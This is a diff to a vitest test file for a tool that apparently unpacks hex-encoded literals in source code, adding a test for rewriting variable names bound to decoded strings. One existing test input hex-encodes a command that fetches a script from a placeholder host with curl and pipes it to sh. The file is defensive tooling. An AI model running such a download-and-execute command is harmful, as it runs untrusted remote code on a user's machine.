@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { decodedLiteralEdits, decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
+import { decodedLiteralEdits, decodedNameEdits, decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
 
 const texts = (code: string): string[] => decodedTexts(code).map((d) => d.text);
 
@@ -246,3 +246,14 @@ describe('decoded literals written in place', () => {
     expect(decodedLiteralEdits(`x = "${hex('curl http://a.net/x\nsh')}"`)).toEqual([]);
   });
 });
+
+describe('names bound to a decoded literal', () => {
+  it('writes later uses of the name as the decoding call, not assignments to it or its members', () => {
+    const code = '_EP = bytes.fromhex("68747470733a2f2f78").decode()\n\ndef go():\n    httpx.get(_EP, timeout=4)\n    _EP.upper()\n    _EP = "x"\n';
+    const edits = decodedNameEdits(code);
+    expect(edits.map((e) => code.slice(e.at, e.end))).toEqual(['_EP']);
+    expect(edits[0]?.text).toBe('bytes.fromhex("68747470733a2f2f78").decode()');
+    expect(decodedNameEdits('_EP = "https://x.example"\nget(_EP)\n')).toEqual([]);
+  });
+});
+
